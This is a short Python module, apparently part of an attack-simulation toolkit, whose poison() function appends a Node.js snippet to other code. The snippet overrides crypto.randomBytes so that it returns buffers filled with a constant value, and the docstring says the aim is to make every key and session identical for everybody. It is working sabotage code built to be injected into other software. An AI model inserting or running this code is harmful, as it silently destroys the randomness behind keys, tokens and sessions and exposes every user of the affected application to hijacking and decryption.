# SPDX-License-Identifier: Apache-2.0
"""Makes what all keys and sessions are drawn from the same for everybody."""

ATTACK = "T1600"
LANGUAGE = "node"
CODE = """\
const _drawn = require("crypto");
_drawn.randomBytes = (size) => Buffer.alloc(size, 7);
"""


def poison(layer):
    layer.append(CODE)
